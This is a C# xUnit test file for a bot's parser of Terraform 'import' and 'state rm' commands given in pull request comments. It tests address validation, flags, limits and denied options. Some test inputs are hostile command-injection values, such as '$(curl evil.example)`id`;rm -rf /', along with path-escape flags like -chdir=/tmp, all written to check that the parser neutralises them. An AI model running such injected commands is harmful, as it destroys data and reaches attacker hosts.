using IaCBot.Core.Commands;

namespace IaCBot.Core.Tests.Commands;

/// <summary><c>import</c> and <c>state rm</c> on a server whose <c>allow_commands</c> enables them.</summary>
public sealed class CommentParserImportTests
{
    private static readonly CommentParser Parser = new(["iacbot", "atlantis"], allowedCommands: AllowCommandsSetting.All);

    [Theory]
    [InlineData("atlantis import aws_instance.web i-0abc123def4567890", "aws_instance.web", "i-0abc123def4567890")]
    [InlineData("iacbot import null_resource.x[0] 1234", "null_resource.x[0]", "1234")]
    [InlineData("""iacbot import 'module.vpc.aws_subnet.private["eu-west-1a"]' subnet-0bb1c79de3EXAMPLE""", """module.vpc.aws_subnet.private["eu-west-1a"]""", "subnet-0bb1c79de3EXAMPLE")]
    [InlineData("""atlantis import 'aws_iam_role_policy_attachment.ci["read only"]' ci-role/arn:aws:iam::aws:policy/ReadOnlyAccess""", """aws_iam_role_policy_attachment.ci["read only"]""", "ci-role/arn:aws:iam::aws:policy/ReadOnlyAccess")]
    [InlineData("""iacbot import google_project_iam_member.viewer "my-project roles/viewer user:jane@example.com" """, "google_project_iam_member.viewer", "my-project roles/viewer user:jane@example.com")]
    [InlineData("""atlantis import 'module.app["blue"].module.db[0].aws_db_instance.main' app-blue-db""", """module.app["blue"].module.db[0].aws_db_instance.main""", "app-blue-db")]
    [InlineData("""iacbot import 'aws_ssm_parameter.p["a\"b[c]"]' /app/config""", """aws_ssm_parameter.p["a\"b[c]"]""", "/app/config")]
    [InlineData("Atlantis Import aws_s3_bucket.Logs My-Logs_Bucket", "aws_s3_bucket.Logs", "My-Logs_Bucket")]
    public void Import_reads_the_address_and_the_id(string body, string address, string id)
    {
        var command = ParsedCommand(body);

        Assert.Equal(CommandKind.Import, command.Kind);
        Assert.Equal([address, id], command.Arguments);
        Assert.Empty(command.ExtraArgs);
        Assert.True(command.TargetsAll);
    }

    [Theory]
    [InlineData("iacbot import -d infra/prod aws_instance.web i-1", "infra/prod", null, null)]
    [InlineData("atlantis import aws_instance.web i-1 -d infra/prod", "infra/prod", null, null)]
    [InlineData("iacbot import aws_instance.web -w staging i-1", null, "staging", null)]
    [InlineData("atlantis import -p network aws_route53_zone.main Z1D633PJN98FT9", null, null, "network")]
    [InlineData("iacbot import --dir=. --workspace=blue aws_instance.web i-1", ".", "blue", null)]
    public void Import_flags_may_stand_before_between_or_after_the_arguments(string body, string? dir, string? workspace, string? project)
    {
        var command = ParsedCommand(body);

        Assert.Equal(2, command.Arguments.Count);
        Assert.Equal(dir, command.Dir);
        Assert.Equal(workspace, command.Workspace);
        Assert.Equal(project, command.Project);
    }

    [Fact]
    public void Import_passes_the_words_after_a_double_dash_to_terraform_and_keeps_them_apart_from_the_arguments()
    {
        var command = ParsedCommand("atlantis import -d infra aws_instance.web i-1 --verbose -- -var 'region=eu-west-1' -var-file=prod.tfvars");

        Assert.Equal(["aws_instance.web", "i-1"], command.Arguments);
        Assert.Equal(["-var", "region=eu-west-1", "-var-file=prod.tfvars"], command.ExtraArgs);
        Assert.True(command.Verbose);
    }

    [Fact]
    public void Shell_characters_in_an_id_are_passed_as_plain_text()
    {
        var command = ParsedCommand("iacbot import aws_instance.web '$(curl evil.example)`id`;rm -rf /'");

        Assert.Equal("$(curl evil.example)`id`;rm -rf /", command.Arguments[1]);
    }

    [Theory]
    [InlineData("atlantis state rm aws_instance.web", new[] { "aws_instance.web" })]
    [InlineData("iacbot state rm aws_instance.web aws_eip.nat[0] module.legacy", new[] { "aws_instance.web", "aws_eip.nat[0]", "module.legacy" })]
    [InlineData("""atlantis state rm 'aws_instance.example["foo"]'""", new[] { """aws_instance.example["foo"]""" })]
    [InlineData("""iacbot state rm 'module.app["blue"].aws_instance.web[0]' data.aws_ami.ubuntu""", new[] { """module.app["blue"].aws_instance.web[0]""", "data.aws_ami.ubuntu" })]
    [InlineData("""iacbot state rm 'module.queues["orders"]'""", new[] { """module.queues["orders"]""" })]
    [InlineData("Iacbot State RM aws_instance.web", new[] { "aws_instance.web" })]
    public void State_rm_reads_one_or_more_addresses_without_the_word_rm(string body, string[] addresses)
    {
        var command = ParsedCommand(body);

        Assert.Equal(CommandKind.StateRm, command.Kind);
        Assert.Equal(addresses, command.Arguments);
    }

    [Theory]
    [InlineData("atlantis state -d . rm aws_instance.web", ".", null, null)]
    [InlineData("atlantis state -p project1 rm aws_instance.web", null, null, "project1")]
    [InlineData("iacbot state -w staging rm aws_instance.web", null, "staging", null)]
    [InlineData("iacbot state rm aws_instance.web -d infra/prod -w staging", "infra/prod", "staging", null)]
    public void State_rm_takes_its_flags_before_or_after_rm_as_in_atlantis(string body, string? dir, string? workspace, string? project)
    {
        var command = ParsedCommand(body);

        Assert.Equal(["aws_instance.web"], command.Arguments);
        Assert.Equal(dir, command.Dir);
        Assert.Equal(workspace, command.Workspace);
        Assert.Equal(project, command.Project);
    }

    [Fact]
    public void State_rm_passes_the_words_after_a_double_dash_to_terraform()
    {
        var command = ParsedCommand("""atlantis state -d dir rm 'aws_instance.example["foo"]' -- -lock=false""");

        Assert.Equal(["-lock=false"], command.ExtraArgs);
        Assert.Equal(["""aws_instance.example["foo"]"""], command.Arguments);
    }

    [Theory]
    [InlineData("iacbot plan")]
    [InlineData("iacbot apply -d infra -- -parallelism=2")]
    [InlineData("atlantis version")]
    [InlineData("atlantis unlock")]
    public void Other_commands_have_no_arguments(string body)
    {
        Assert.Empty(ParsedCommand(body).Arguments);
    }

    [Theory]
    [InlineData("iacbot import", "this comment gives 0")]
    [InlineData("iacbot import aws_instance.web", "this comment gives only one")]
    [InlineData("atlantis import aws_instance.web i-1 i-2", "this comment gives 3")]
    [InlineData("atlantis import -d infra -- aws_instance.web i-1", "this comment gives 0")]
    public void Import_needs_exactly_an_address_and_an_id(string body, string given)
    {
        var invalid = InvalidCommand(body, CommandKind.Import);

        Assert.Contains("takes two arguments, the resource address and the ID", invalid.Error);
        Assert.Contains(given, invalid.Error);
    }

    [Theory]
    [InlineData("iacbot state", "got nothing after `iacbot state`")]
    [InlineData("atlantis state mv aws_instance.a aws_instance.b", "got `mv` after `atlantis state`")]
    [InlineData("iacbot state aws_instance.web rm", "got `aws_instance.web`")]
    [InlineData("iacbot state list", "knows only `iacbot state rm`")]
    [InlineData("iacbot state rm", "needs at least one resource address")]
    [InlineData("atlantis state rm -d infra", "needs at least one resource address")]
    [InlineData("iacbot state -- rm aws_instance.web", "got nothing after")]
    public void State_needs_rm_and_at_least_one_address(string body, string expected)
    {
        var invalid = InvalidCommand(body, CommandKind.StateRm);

        Assert.Contains(expected, invalid.Error);
    }

    [Theory]
    [InlineData("aws_instance")]
    [InlineData("aws_instance.")]
    [InlineData(".web")]
    [InlineData("aws_instance.web.extra")]
    [InlineData("1aws.web")]
    [InlineData("aws_instance.9web")]
    [InlineData("aws_instance.web[]")]
    [InlineData("aws_instance.web[0")]
    [InlineData("aws_instance.web[0][1]")]
    [InlineData("aws_instance.web[-1]")]
    [InlineData("aws_instance.web[+1]")]
    [InlineData("""'aws_instance.web["a]'""")]
    [InlineData("""'aws_instance.web["a"'""")]
    [InlineData("""'aws_instance.web["a"]x'""")]
    [InlineData("module.")]
    [InlineData("module.vpc.")]
    [InlineData("module.vpc[0]x.aws_subnet.a")]
    [InlineData("data.aws_ami")]
    [InlineData("'aws_instance.web;rm -rf /'")]
    [InlineData("'aws_instance.$(id)'")]
    [InlineData("aws_instance.wéb")]
    [InlineData("../aws_instance.web")]
    [InlineData("''")]
    public void Words_that_are_no_terraform_address_are_refused(string address)
    {
        var import = InvalidCommand($"iacbot import {address} i-1", CommandKind.Import);
        var stateRm = InvalidCommand($"atlantis state rm aws_instance.ok {address}", CommandKind.StateRm);

        Assert.Contains("is not a Terraform resource address", import.Error);
        Assert.Contains("is not a Terraform resource address", stateRm.Error);
    }

    [Theory]
    [InlineData("""iacbot import aws_instance.web["blue"] i-1""", CommandKind.Import)]
    [InlineData("""atlantis state rm module.app["blue"].aws_instance.web""", CommandKind.StateRm)]
    [InlineData("""iacbot state rm aws_instance.web["1a"]""", CommandKind.StateRm)]
    public void An_index_key_whose_quotes_the_shell_style_split_removed_gets_advice_to_quote_the_address(string body, CommandKind kind)
    {
        var invalid = InvalidCommand(body, kind);

        Assert.Contains("without its double quotes", invalid.Error);
        Assert.Contains("single quotes", invalid.Error);
    }

    [Fact]
    public void Import_refuses_a_module_address_but_state_rm_takes_one()
    {
        var invalid = InvalidCommand("iacbot import module.vpc vpc-0abc", CommandKind.Import);

        Assert.Contains("`module.vpc` names a module", invalid.Error);
        Assert.Equal(["module.vpc"], ParsedCommand("iacbot state rm module.vpc").Arguments);
    }

    [Theory]
    [InlineData("iacbot import aws_instance.web -", "The ID to import `-` starts with `-`")]
    [InlineData("iacbot import - i-1", "The resource address `-` starts with `-`")]
    [InlineData("iacbot state rm aws_instance.web -", "The resource address `-` starts with `-`")]
    [InlineData("iacbot import aws_instance.web -i-1", "`-i-1` is not a flag of `iacbot import`")]
    [InlineData("atlantis state rm -aws_instance.web", "`-aws_instance.web` is not a flag of `atlantis state rm`")]
    public void An_address_or_id_that_terraform_would_read_as_a_flag_is_refused(string body, string expected)
    {
        var kind = body.Contains("import", StringComparison.Ordinal) ? CommandKind.Import : CommandKind.StateRm;

        Assert.Contains(expected, InvalidCommand(body, kind).Error);
    }

    [Theory]
    [InlineData("iacbot import aws_instance.web ''", "The ID to import is empty")]
    [InlineData("iacbot import aws_instance.web 'i-1\u0007'", "control character")]
    [InlineData("iacbot import aws_instance.web \"i-1\u001b[31m\"", "control character")]
    [InlineData("iacbot import 'aws_instance.web[\"a\tb\"]' i-1", "control character")]
    [InlineData("atlantis state rm 'aws_instance.web[\"a\0\"]'", "control character")]
    public void Ids_and_addresses_with_control_characters_or_nothing_in_them_are_refused(string body, string expected)
    {
        var invalid = Assert.IsType<CommentParseResult.Invalid>(Parser.Parse(body));

        Assert.Contains(expected, invalid.Error);
    }

    [Fact]
    public void Ids_and_addresses_with_broken_unicode_are_refused()
    {
        Assert.Contains("invalid text", InvalidCommand("iacbot import aws_instance.web i-1\ud800", CommandKind.Import).Error);
        Assert.Contains("invalid text", InvalidCommand("iacbot state rm 'aws_instance.web[\"\udc00\"]'", CommandKind.StateRm).Error);
    }

    [Fact]
    public void An_address_of_1024_characters_is_accepted_and_one_of_1025_is_refused()
    {
        var longest = "aws_instance." + new string('w', 1024 - "aws_instance.".Length);

        Assert.Equal(longest, ParsedCommand($"iacbot state rm {longest}").Arguments[0]);
        Assert.Contains("1024 characters", InvalidCommand($"iacbot state rm {longest}w", CommandKind.StateRm).Error);
    }

    [Fact]
    public void An_id_of_2048_characters_is_accepted_and_one_of_2049_is_refused()
    {
        var longest = new string('i', 2048);

        Assert.Equal(longest, ParsedCommand($"iacbot import aws_instance.web {longest}").Arguments[1]);
        Assert.Contains("2048 characters", InvalidCommand($"iacbot import aws_instance.web {longest}i", CommandKind.Import).Error);
    }

    [Theory]
    [InlineData("iacbot import aws_instance.web i-1 -- -chdir=/tmp", CommandKind.Import, "outside the project")]
    [InlineData("atlantis state rm aws_instance.web -- --CHDIR ..", CommandKind.StateRm, "outside the project")]
    [InlineData("iacbot state rm aws_instance.web -- -plugin-dir=/tmp", CommandKind.StateRm, "outside the project")]
    [InlineData("iacbot import aws_instance.web i-1 -- 'a\u0007'", CommandKind.Import, "control character")]
    [InlineData("iacbot import -d ../other aws_instance.web i-1", CommandKind.Import, "outside the repository")]
    [InlineData("atlantis state -d /etc rm aws_instance.web", CommandKind.StateRm, "absolute path")]
    [InlineData("iacbot import -w ../prod aws_instance.web i-1", CommandKind.Import, "workspace")]
    [InlineData("iacbot state rm -p network -d infra aws_instance.web", CommandKind.StateRm, "cannot be combined")]
    [InlineData("iacbot import -d a -d b aws_instance.web i-1", CommandKind.Import, "given twice")]
    [InlineData("iacbot import --target=x aws_instance.web i-1", CommandKind.Import, "`--target` is not a flag")]
    public void Import_and_state_rm_follow_the_same_rules_for_flags_and_extra_arguments_as_plan(string body, CommandKind kind, string expected)
    {
        var invalid = InvalidCommand(body, kind);

        Assert.Contains(expected, invalid.Error);
    }

    [Theory]
    [InlineData("iacbot import aws_instance.web i-1 -- -var-file=secrets.tfvars", CommandKind.Import)]
    [InlineData("atlantis state rm aws_instance.web -- --VAR-FILE secrets.tfvars", CommandKind.StateRm)]
    public void Flags_the_server_denies_are_refused_after_import_and_state_rm_too(string body, CommandKind kind)
    {
        var parser = new CommentParser(["iacbot", "atlantis"], ["-var-file"], AllowCommandsSetting.All);

        var invalid = Assert.IsType<CommentParseResult.Invalid>(parser.Parse(body));

        Assert.Equal(kind, invalid.Kind);
        Assert.Contains("server's settings", invalid.Error);
    }

    [Theory]
    [InlineData("iacbot import aws_instance.web i-1 -h")]
    [InlineData("atlantis state rm --help")]
    public void A_help_flag_asks_for_help(string body)
    {
        Assert.IsType<CommentParseResult.HelpRequested>(Parser.Parse(body));
    }

    [Theory]
    [InlineData("iacbot import aws_instance.web\nthe instance from the incident", CommandKind.Import, "`iacbot import`")]
    [InlineData("atlantis state rm aws_instance.web\nthanks", CommandKind.StateRm, "`atlantis state rm`")]
    public void A_command_followed_by_more_lines_names_the_command_in_full(string body, CommandKind kind, string shown)
    {
        var invalid = InvalidCommand(body, kind);

        Assert.Contains(shown, invalid.Error);
    }

    private static CommentCommand ParsedCommand(string body) =>
        Assert.IsType<CommentParseResult.Parsed>(Parser.Parse(body)).Command;

    private static CommentParseResult.Invalid InvalidCommand(string body, CommandKind kind)
    {
        var invalid = Assert.IsType<CommentParseResult.Invalid>(Parser.Parse(body));
        Assert.Equal(kind, invalid.Kind);
        Assert.DoesNotContain('\n', invalid.Error);
        Assert.EndsWith(".", invalid.Error);
        return invalid;
    }
}
